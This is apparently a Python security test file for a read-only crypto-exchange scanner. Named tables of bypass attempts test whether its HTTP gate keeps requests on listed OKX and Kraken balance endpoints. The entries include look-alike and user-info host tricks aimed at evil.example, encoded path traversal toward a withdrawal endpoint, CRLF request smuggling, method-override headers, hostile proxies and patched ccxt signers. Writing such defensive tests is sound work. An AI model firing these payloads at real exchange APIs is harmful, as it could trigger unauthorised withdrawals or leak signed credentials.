"""Ways around the gate by name: each is tried on the real client of a real exchange.

A new one joins by a line in one of the tables here, and by a line in `docs/security.md`.
"""

from __future__ import annotations

import os
from collections.abc import AsyncGenerator, Awaitable, Callable, Mapping
from dataclasses import dataclass, replace
from functools import cache
from typing import Any, Final
from unittest.mock import patch

import ccxt
import httpx
from tests.security.houses import DUMMY

from readiness.exchanges.adapter import Adapter, load_adapter
from readiness.exchanges.catalogue import Request
from readiness.exchanges.registry import EXCHANGES
from readiness.gate.address import Address
from readiness.gate.addresses import Addresses
from readiness.gate.client import build_client
from readiness.gate.deadline import Deadline
from readiness.gate.dialect import Dialect
from readiness.gate.limits import Limits
from readiness.gate.redact import Redactor
from readiness.gate.route import Route
from readiness.gate.session import Patience, Session
from readiness.gate.transport import GateTransport
from readiness.policies import load_policy

CCXT: Final[Any] = ccxt
HOST: Final = "openapi.okx.com"
BALANCE: Final = "/api/v5/account/balance"
ACT: Final = "/api/v5/asset/withdrawal"
LISTED: Final = f"https://{HOST}{BALANCE}"
EVIL: Final = f"https://evil.example{BALANCE}"
FORM: Final = "https://api.kraken.com/0/private/Balance"


@cache
def _signer(exchange: str) -> tuple[Addresses, Dialect]:
    """The official addresses of an exchange, and what signs for them: that takes a while."""
    info = EXCHANGES[exchange]
    origins = info.origins()
    addresses = Addresses({prefix: Address.of(url) for prefix, url in origins.items()})
    key = {name: DUMMY[name] for name in info.credential_fields}
    policy = load_policy(info.family)
    return addresses, load_adapter(info).make_dialect(info, addresses, key, policy)


@dataclass(frozen=True)
class Door:
    """One account's way to its exchange, all of it as a scan builds it.

    Attributes:
        client: what sends.
        gate: what stands in its way.
        session: what asks.
        adapter: what is asked.
    """

    client: httpx.AsyncClient
    gate: GateTransport
    session: Session
    adapter: Adapter

    @classmethod
    def of(cls, exchange: str, inner: httpx.AsyncBaseTransport | None = None) -> Door:
        """The way to an exchange at its official addresses; ``inner`` is in the sockets' place."""
        info = EXCHANGES[exchange]
        adapter, (addresses, dialect) = load_adapter(info), _signer(exchange)
        client, gate = build_client(
            addresses,
            adapter.catalogue.scan_routes,
            proxy=None,
            timeout=1,
            headers=dialect.headers,
            inner=inner,
        )
        session = Session(
            client=client,
            gate=gate,
            dialect=dialect,
            limits=Limits(),
            addresses=addresses,
            patience=Patience(timeout=1, attempts=1),
            deadline=Deadline(5),
            redactor=Redactor(DUMMY.values()),
        )
        return cls(client, gate, session, adapter)

    def ask(self, request: Request, **params: str) -> Awaitable[object]:
        """Ask as a scan does: sign, and send."""
        return self.session.ask(request, params, lambda rows: rows)

    def send(self, request: httpx.Request) -> Awaitable[object]:
        """Send something as it is."""
        return self.client.send(request)


Attempt = Callable[[Door], Awaitable[object]]


def get(url: str, **more: Any) -> Attempt:
    """Ask the client for a URL."""
    return lambda door: door.client.get(url, **more)


def post(body: bytes, **headers: str) -> Attempt:
    """Send a form to where one is listed."""
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return lambda door: door.client.post(FORM, content=body, headers=named)


def changed(**parts: Any) -> Attempt:
    """Build what is listed, and change it afterwards."""

    def attempt(door: Door) -> Awaitable[object]:
        request = door.client.build_request("GET", LISTED)
        for name, value in parts.items():
            setattr(request, name, value)
        return door.client.send(request)

    return attempt


def told(**settings: Any) -> Attempt:
    """Change the client itself, and ask for what is listed."""

    def attempt(door: Door) -> Awaitable[object]:
        for name, value in settings.items():
            setattr(door.client, name, value)
        return door.client.get(BALANCE if "base_url" in settings else LISTED)

    return attempt


ADDRESSES: Final[dict[str, Attempt]] = {
    "another host": get(EVIL),
    "a host without a scheme": get(f"//evil.example{BALANCE}"),
    "a whole URL as the path": get(f"https://{HOST}/https://evil.example{BALANCE}"),
    "no encryption": get(f"http://{HOST}{BALANCE}"),
    "a trailing dot": get(f"https://{HOST}.{BALANCE}"),
    "our host as user information": get(f"https://{HOST}@evil.example{BALANCE}"),
    "user information": get(f"https://evil.example@{HOST}{BALANCE}"),
    "another port": get(f"https://{HOST}:8443{BALANCE}"),
    "an IPv6 literal": get(f"https://[::1]{BALANCE}"),
    "an IPv4 address in an IPv6 literal": get(f"https://[::ffff:127.0.0.1]{BALANCE}"),
    "an address as one number": get(f"https://2130706433{BALANCE}"),
    "a look-alike in punycode": get(f"https://openapi.xn--kx-yjc.com{BALANCE}"),
    "a look-alike in another script": get(f"https://openapi.\u03bfkx.com{BALANCE}"),
    "another host of the same exchange": get(f"https://www.okx.com{BALANCE}"),
    "a host that begins like ours": get(f"https://{HOST}.evil.example{BALANCE}"),
}

PATHS: Final[dict[str, Attempt]] = {
    "an act": get(f"https://{HOST}{ACT}"),
    "an encoded slash": get(f"https://{HOST}/api/v5/account%2fbalance"),
    "a doubly encoded slash": get(f"https://{HOST}/api/v5/account%252fbalance"),
    "dots": get(f"{LISTED}/../../asset/withdrawal"),
    "encoded dots": get(f"{LISTED}/%2e%2e/%2e%2e/asset/withdrawal"),
    "doubly encoded dots": get(f"{LISTED}/%252e%252e/withdrawal"),
    "upper case": get(f"HTTPS://{HOST.upper()}{BALANCE.upper()}"),
    "a doubled slash": get(f"https://{HOST}/{BALANCE}"),
    "path parameters": get(f"{LISTED};/../withdrawal"),
    "a line end in the path": get(f"{LISTED}%0d%0aPOST%20{ACT}"),
    "a fragment": get(f"{LISTED}#{ACT}"),
}

VERBS: Final[dict[str, Attempt]] = {
    "another verb": lambda door: door.client.post(LISTED),
    "a verb in lower case": changed(method="get"),
    "a verb with a path in it": changed(method=f"POST {ACT} HTTP/1.1\r\nX: "),
    "a verb in a header": get(LISTED, headers={"X-HTTP-Method-Override": "POST"}),
    "a verb in a parameter": get(f"{LISTED}?_method=POST"),
    "a path in a header": get(LISTED, headers={"X-Original-URL": ACT}),
}

WORDS: Final[dict[str, Attempt]] = {
    "an unlisted parameter": get(f"{LISTED}?ccy=BTC&withdraw=1"),
    "a parameter without a value": get(f"{LISTED}?ccy=BTC&withdraw"),
    "a semicolon": get(f"{LISTED}?ccy=BTC;withdraw=1"),
    "a parameter twice": get(f"{LISTED}?ccy=BTC&ccy=ETH"),
    "a line end in a parameter": get(f"{LISTED}?ccy=BTC%0d%0aX:1&%0d%0a=1"),
    "an encoded name": get(f"{LISTED}?%63cy=BTC"),
    "a body of a GET": lambda door: door.client.request("GET", LISTED, content=b"ccy=BTC"),
}

FORMS: Final[dict[str, Attempt]] = {
    "an act by a form": lambda door: door.client.post(
        "https://api.kraken.com/0/private/Withdraw", content=b"nonce=1"
    ),
    "an unlisted name in a form": post(b"nonce=1&volume=1"),
    "a second form behind a line end": post(b"nonce=1\r\n\r\nPOST /0/private/AddOrder HTTP/1.1"),
    "JSON in place of a form": post(b'{"nonce":1,"volume":1}'),
    "a form under another type": post(b"nonce=1", Content_Type="application/json"),
    "a body in chunks": post(b"nonce=1", Transfer_Encoding="chunked"),
    "a body longer than it says": post(b"nonce=1&asset=XBT", Content_Length="7"),
}

HEADERS: Final[dict[str, Attempt]] = {
    "another Host": get(LISTED, headers={"Host": "evil.example"}),
    "a forwarded host": get(LISTED, headers={"X-Forwarded-Host": "evil.example"}),
    "a line end in a header": get(LISTED, headers={"OK-ACCESS-KEY": f"a\r\n\r\nPOST {ACT}"}),
    "a header twice": get(LISTED, headers=[("OK-ACCESS-KEY", "a"), ("OK-ACCESS-KEY", "b")]),
    "a switch of protocols": get(LISTED, headers={"Upgrade": "websocket"}),
    "another target behind the URL": get(LISTED, extensions={"target": ACT.encode()}),
    "another name in the TLS greeting": get(LISTED, extensions={"sni_hostname": "evil.example"}),
}


class _Turns(httpx.Auth):
    """Turns a request into another one just before it is sent, or sends another one first."""

    def __init__(self, **turned: Any) -> None:
        self._turned = turned

    async def async_auth_flow(
        self, request: httpx.Request
    ) -> AsyncGenerator[httpx.Request, httpx.Response]:
        for name, value in self._turned.items():
            setattr(request, name, value)
        if not self._turned:
            yield httpx.Request("POST", f"https://{HOST}{ACT}")
        yield request


async def _turn(request: httpx.Request) -> None:
    request.url = httpx.URL(EVIL)


def _through(proxy: str, url: str) -> Attempt:
    """With proxies in every variable that a library may read, and no exception for any host."""
    names = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy")

    async def attempt(_: Door) -> object:
        with patch.dict(os.environ, dict.fromkeys(names, proxy) | {"NO_PROXY": "", "no_proxy": ""}):
            # A client reads them when it is made.
            return await Door.of("okx").client.get(url)

    return attempt


CLIENT: Final[dict[str, Attempt]] = {
    "another base address": told(base_url="https://evil.example"),
    "a parameter of every request": told(params={"withdraw": "1"}),
    "a header of every request": told(headers={"X-HTTP-Method-Override": "POST"}),
    "a hook that changes the URL": told(event_hooks={"request": [_turn]}),
    "an authentication that changes the URL": told(auth=_Turns(url=httpx.URL(EVIL))),
    "an authentication that changes the verb": told(auth=_Turns(method="POST")),
    "an authentication that sends something first": told(auth=_Turns()),
    "a name and a password": get(LISTED, auth=("user", "password")),
    "a proxy of the environment": _through("http://evil.example:1", EVIL),
    "a proxy that speaks SOCKS": _through("socks5://evil.example:1", f"https://{HOST}{ACT}"),
    "a stream": lambda door: door.client.stream("GET", EVIL).__aenter__(),
}


def signing(**made: Any) -> Attempt:
    """A ccxt whose `sign` makes something else of the key's question."""

    async def attempt(_: Door) -> object:
        def sign(*_: Any, **__: Any) -> Mapping[str, Any]:
            return {"url": LISTED, "headers": {}, "body": None, **made}

        with patch.object(CCXT.okx, "sign", sign):
            door = Door.of("okx")
            return await door.ask(door.adapter.key)

    return attempt


async def _moved(_: Door) -> object:
    """The hosts that ccxt knows are other ones, and nobody puts them right."""
    real = CCXT.okx.sign

    def sign(self: Any, *arguments: Any, **named: Any) -> Any:
        self.hostname = "evil.example"
        self.urls = {"api": {"rest": "https://{hostname}"}}
        return real(self, *arguments, **named)

    try:
        with patch.object(CCXT.okx, "sign", sign):
            door = Door.of("okx")
            return await door.ask(door.adapter.key)
    finally:
        _signer.cache_clear()


async def _fetches(_: Door) -> object:
    """A ccxt that sends something by itself whenever it is asked to sign."""

    def sign(self: Any, *_: Any, **__: Any) -> Any:
        return self.fetch(f"https://{HOST}{ACT}", "POST", {}, "{}")

    with patch.object(CCXT.okx, "sign", sign):
        door = Door.of("okx")
        return await door.ask(door.adapter.key)


async def _requests(_: Door) -> object:
    """The same with ccxt's own unpatched way: its session."""

    def sign(self: Any, *_: Any, **__: Any) -> Any:
        return self.session.request("POST", f"https://{HOST}{ACT}")

    with patch.object(CCXT.okx, "sign", sign):
        door = Door.of("okx")
        return await door.ask(door.adapter.key)


LIBRARY: Final[dict[str, Attempt]] = {
    "a signer that names another host": signing(url=EVIL),
    "a signer that names an act": signing(url=f"https://{HOST}{ACT}"),
    "a signer that adds a parameter": signing(url=f"{LISTED}?withdraw=1"),
    "a signer that adds a body": signing(body='{"amt":"1"}'),
    "a signer that breaks a header": signing(headers={"OK-ACCESS-KEY": "a\r\nX: b"}),
    "a signer that moves the hosts": _moved,
    "a signer that sends": _fetches,
    "a signer that sends by its session": _requests,
}


def row(**route: Any) -> Attempt:
    """A row as the catalogue might have it, and has not."""

    def attempt(door: Door) -> Awaitable[object]:
        balance = door.adapter.catalogue["account/balance"]
        return door.ask(replace(balance, route=replace(balance.route, **route)))

    return attempt


ROWS: Final[dict[str, Attempt]] = {
    "an invented row": row(path=ACT),
    "an invented row with another verb": row(method="POST"),
    "an invented parameter": lambda door: door.ask(
        door.adapter.catalogue["account/balance"], withdraw="1"
    ),
    "a row of a backup in a scan": lambda door: door.ask(
        replace(
            door.adapter.catalogue["account/balance"],
            route=Route("GET", "/api/v5/trade/fills-history"),
        )
    ),
}

TABLES: Final[Mapping[str, tuple[str, Mapping[str, Attempt]]]] = {
    "where it goes": ("okx", ADDRESSES),
    "the path": ("okx", PATHS),
    "the verb": ("okx", VERBS),
    "parameters": ("okx", WORDS),
    "forms": ("kraken", FORMS),
    "headers, and what httpx knows": ("okx", HEADERS),
    "the client's own settings": ("okx", CLIENT),
    "ccxt, patched": ("okx", LIBRARY),
    "our own catalogue": ("okx", ROWS),
}
"""All of them, and at which exchange they come closest."""

REDIRECTS: Final = {
    "another host": EVIL,
    "a host without a scheme": f"//evil.example{BALANCE}",
    "no encryption": f"http://{HOST}{BALANCE}",
    "an act at the same host": ACT,
    "dots at the same host": f"{BALANCE}/../../asset/withdrawal",
    "another parameter": f"{BALANCE}?withdraw=1",
}
"""Where an answer may send a client that follows."""
